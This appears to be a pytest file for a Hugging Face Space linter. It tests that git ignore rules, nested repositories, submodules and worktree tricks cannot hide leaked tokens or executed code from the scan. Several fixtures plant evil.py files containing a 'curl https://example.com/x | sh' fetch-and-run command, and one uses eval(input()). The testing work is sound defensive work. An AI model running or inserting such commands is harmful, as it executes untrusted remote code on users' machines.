"""What a Space says should be ignored hides nothing that would be published."""

from __future__ import annotations

import subprocess
from typing import TYPE_CHECKING

import pytest
from hf_lint.cli import main
from hf_lint.core.model import Profile
from hf_lint.pipeline.engine import check_space
from hf_lint.secrets.fakes import expand
from hf_lint.sources.directory import collect_directory
from support import plan

if TYPE_CHECKING:
    from pathlib import Path

CARD = "---\nsdk: gradio\n---\n"
LEAK = expand("T = '@@fake:huggingface-user-token@@'\n")


def git(folder: Path, *words: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    subprocess.run(
        ["git", "-C", str(folder), "-c", "user.name=a", "-c", "user.email=a@b", *words], check=True, capture_output=True
    )


def write(folder: Path, **files: str) -> Path:
    for name, text in files.items():
        path = folder / name.replace("__", "/").replace("_py", ".py").replace("dot_", ".")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


@pytest.fixture
def space(tmp_path: Path) -> Path:
    folder = tmp_path / "around" / "space"
    folder.mkdir(parents=True)
    (folder / "README.md").write_text(CARD)
    (folder / ".gitignore").write_text("leak.py\n.venv/\n__pycache__/\n")
    (folder / "leak.py").write_text(LEAK)
    return folder


def leaks(folder: Path, *, trusted: bool = True) -> list[str]:
    report = check_space(collect_directory(folder, trusted=trusted), plan("leaked-hf-token"))
    assert not report.errors
    return [finding.location.path for finding in report.findings]


def test_outside_of_git_nothing_is_left_out(space: Path) -> None:
    assert leaks(space) == ["leak.py"]


def test_ignore_rules_of_a_download_in_somebodys_repository_hide_nothing(space: Path) -> None:
    git(space.parent, "init", "-q")
    assert leaks(space) == ["leak.py"]
    assert "its .gitignore leaves nothing out" in collect_directory(space).notes[0]


@pytest.mark.parametrize("file", [".git/info/exclude", ".gitignore"])
def test_rules_of_the_repository_around_hide_nothing_of_it_either(space: Path, file: str) -> None:
    git(space.parent, "init", "-q")
    (space / ".gitignore").unlink()
    (space.parent / file).write_text("leak.py\n")
    assert leaks(space) == ["leak.py"]


def test_what_the_owner_would_not_publish_is_left_out_and_counted(space: Path) -> None:
    git(space, "init", "-q")
    assert leaks(space) == []
    report = check_space(collect_directory(space), plan("leaked-hf-token"))
    assert report.ignored == 1


def test_a_space_that_the_repository_around_tracks_is_its_owners(space: Path) -> None:
    git(space.parent, "init", "-q")
    git(space.parent, "add", "space/README.md")
    assert (leaks(space), collect_directory(space).ignored) == ([], 1)


def test_what_was_added_by_force_is_checked(space: Path) -> None:
    git(space, "init", "-q")
    git(space, "add", "-f", "leak.py")
    assert leaks(space) == ["leak.py"]


def test_a_repository_within_is_walked(space: Path) -> None:
    git(space, "init", "-q")
    git(space / "sub" / "deep", "init", "-q")
    write(space, sub__deep__leak_py=LEAK, sub__deep__dot_gitignore="*\n")
    assert leaks(space) == ["sub/deep/leak.py"]


def test_a_submodule_is_named(space: Path) -> None:
    git(space, "init", "-q")
    git(space / "sub", "init", "-q")
    git(space / "sub", "commit", "-q", "--allow-empty", "-m", "x")
    git(space, "add", "sub")
    write(space, sub__leak_py=LEAK)
    assert leaks(space) == []
    assert collect_directory(space).notes == ("1 submodule not checked",)


@pytest.mark.parametrize("text", ["gitdir: ../elsewhere\n", "gitdir: /nowhere\n", "no repository\n", ""])
def test_a_git_file_that_leads_nowhere_hides_nothing(space: Path, text: str) -> None:
    (space / ".git").write_text(text)
    assert leaks(space) == ["leak.py"]


def test_a_repository_whose_files_are_elsewhere_hides_nothing(space: Path) -> None:
    git(space, "init", "-q")
    git(space, "config", "core.worktree", str(space.parent / "elsewhere"))
    (space.parent / "elsewhere").mkdir()
    assert leaks(space) == ["leak.py"]


def test_a_file_named_like_an_entry_of_the_index_is_checked(space: Path) -> None:
    git(space, "init", "-q")
    name = f"160000 {'a' * 40} 0\tx.py"
    (space / name).write_text(LEAK)
    assert leaks(space) == [name]


def test_ignore_rules_silence_tidiness_alone(space: Path) -> None:
    write(space, dot_venv__pyvenv_cfg="", dot_venv__leak_py=LEAK, __pycache___a_py="")
    (space / "node_modules").mkdir()
    (space / "node_modules" / "a.js").write_text("")
    report = check_space(collect_directory(space), plan("committed-junk", "leaked-hf-token", profile=Profile.STRICT))
    found = sorted((finding.rule, finding.location.path) for finding in report.findings)
    assert ("leaked-hf-token", ".venv/leak.py") in found
    assert [path for rule, path in found if rule == "committed-junk"] == ["node_modules/a.js"]


@pytest.mark.parametrize("file", [".gitignore", ".git/info/exclude", "nested", "gitlink", "worktree", "index"])
def test_nothing_is_hidden_of_a_folder_that_is_not_trusted(space: Path, file: str) -> None:
    git(space, "init", "-q")
    if file == "nested":
        git(space / "sub", "init", "-q")
        (space / "sub" / ".gitignore").write_text("*\n")
    elif file == "gitlink":
        git(space / "sub", "init", "-q")
        git(space / "sub", "commit", "-q", "--allow-empty", "-m", "x")
        git(space, "add", "sub")
    elif file == "worktree":
        git(space, "config", "core.worktree", str(space.parent))
    elif file == "index":
        git(space, "add", "-f", ".")
        git(space, "update-index", "--skip-worktree", "leak.py")
        (space / "leak.py").write_text(LEAK)
    else:
        (space / ".gitignore").write_text("\n")
        (space / file).write_text("leak.py\nsub/\n")
    write(space, sub__leak_py=LEAK)
    assert leaks(space, trusted=False) == ["leak.py"]
    report = check_space(collect_directory(space, trusted=False), plan("leaked-hf-token"))
    assert [place.path for place in report.findings[0].related] == ["sub/leak.py"]


def test_the_option_without_config_trusts_no_folder(space: Path, capsys: pytest.CaptureFixture[str]) -> None:
    git(space, "init", "-q")
    assert main([str(space), "--select", "leaked-hf-token"]) == 0
    assert main([str(space), "--select", "leaked-hf-token", "--no-config"]) == 1
    assert "leak.py" in capsys.readouterr().out


@pytest.mark.parametrize("place", [".git/hooks/evil.py", ".git/objects/ab/evil.py", ".git/evil.py", "sub/.git/evil.py"])
def test_code_among_the_files_of_git_is_read(space: Path, place: str) -> None:
    git(space, "init", "-q")
    (space / place).parent.mkdir(parents=True, exist_ok=True)
    (space / place).write_text("import os\nos.system('curl https://example.com/x | sh')\n")
    (space / "app.py").write_text(f"import sys\nsys.path.append('{place.rpartition('/')[0]}')\nimport evil\n")
    report = check_space(collect_directory(space, trusted=False), plan("leaked-hf-token"))
    assert collect_directory(space, trusted=False).startup.role(place) == "runs"
    assert not report.errors


@pytest.mark.parametrize(
    ("ignored", "code"),
    [
        ("evil.py", "import evil\n"),
        ("evil.py", "from evil import run\n"),
        ("evil/__init__.py", "import evil.inner\n"),
        ("data.txt", "exec(open('data.txt').read())\n"),
        ("venv/data.bin", "import runpy\nrunpy.run_path('venv/data.bin')\n"),
        ("run.py", "import os\nos.system('python run.py')\n"),
    ],
)
def test_what_the_start_reads_and_git_ignores_is_named(space: Path, ignored: str, code: str) -> None:
    git(space, "init", "-q")
    (space / ".git" / "info" / "exclude").write_text(f"{ignored.partition('/')[0]}\n")
    write(space, app_py=code)
    (space / ignored).parent.mkdir(exist_ok=True)
    (space / ignored).write_text("import os\nos.system('curl https://example.com/x | sh')\n")
    report = check_space(collect_directory(space), plan("leaked-hf-token"))
    assert [error.message for error in report.errors] == [
        f"app.py: `{ignored}` is read here and git ignores it, so not all that runs was checked"
    ]


def test_what_git_ignores_and_nothing_reads_is_no_error(space: Path) -> None:
    git(space, "init", "-q")
    write(space, app_py="import leak2, gradio\nexec(open('leak3.py').read())\n")
    (space / "gradio").mkdir()
    (space / ".gitignore").write_text("leak.py\ngradio/\n")
    assert not check_space(collect_directory(space), plan("leaked-hf-token")).errors


def test_an_app_file_that_git_ignores_is_named(space: Path) -> None:
    git(space, "init", "-q")
    (space / ".gitignore").write_text("app.py\n")
    write(space, app_py="eval(input())\n")
    report = check_space(collect_directory(space), plan("leaked-hf-token"))
    assert any("`app.py` is read here and git ignores it" in error.message for error in report.errors)


def test_the_last_line_names_what_was_left_out(space: Path, capsys: pytest.CaptureFixture[str]) -> None:
    git(space, "init", "-q")
    (space / ".gitignore").write_text("*.log\nleak.py\n")
    write(space, **{"a.log": "", "b.log": "", "c.log": ""})
    main([str(space), "--select", "leaked-hf-token"])
    assert "4 ignored by git and not checked (a.log, b.log, c.log, 1 more)" in capsys.readouterr().err
